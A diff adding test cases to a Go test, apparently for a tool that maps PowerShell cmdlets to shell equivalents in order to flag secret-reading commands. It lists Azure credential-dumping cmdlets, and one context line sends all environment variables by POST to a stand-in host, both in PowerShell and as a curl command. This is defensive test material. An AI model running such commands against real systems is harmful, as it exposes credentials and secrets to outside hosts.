@@ -63,6 +63,16 @@ func TestTranslatePwsh(t *testing.T) {
 		{"Get-Secret -Name GitHubPat -AsPlainText", "secret-tool lookup Get-Secret"},
 		{"New-AzStorageContainerSASToken -Name c -Permission rwdl", "secret-tool lookup New-AzStorageContainerSASToken"},
 		{"Get-AzSshKey -ResourceGroupName rg", "echo"},
+		// key pairs, publishing profiles, registry and cluster
+		// credentials, app settings print secrets; a vault's listing
+		// prints names unless -AsPlainText asks for the values
+		{"Get-AzSearchAdminKeyPair -ResourceGroupName rg -ServiceName s", "secret-tool lookup Get-AzSearchAdminKeyPair"},
+		{"Get-AzWebAppPublishingProfile -ResourceGroupName rg -Name app", "secret-tool lookup Get-AzWebAppPublishingProfile"},
+		{"Get-AzContainerRegistryCredential -ResourceGroupName rg -Name r", "secret-tool lookup Get-AzContainerRegistryCredential"},
+		{"Get-AzFunctionAppSetting -Name fn -ResourceGroupName rg", "secret-tool lookup Get-AzFunctionAppSetting"},
+		{"Get-AzKeyVaultSecret -VaultName kv", "echo"},
+		{"Get-AzKeyVaultSecret -VaultName kv -Name db -AsPlainText", "secret-tool lookup Get-AzKeyVaultSecret"},
+		{"ConvertFrom-SecureString -AsPlainText", "secret-tool lookup ConvertFrom-SecureString"},
 		{"Get-AzKeyVault -VaultName kv", "echo"},
 		{"Get-Credential", "echo"},
 		{"Invoke-RestMethod https://x.example/k -Method Post -Body (@{env = (Get-ChildItem env: | Out-String)} | ConvertTo-Json)", "curl -X POST -d \"$(env | tee)\" https://x.example/k"},
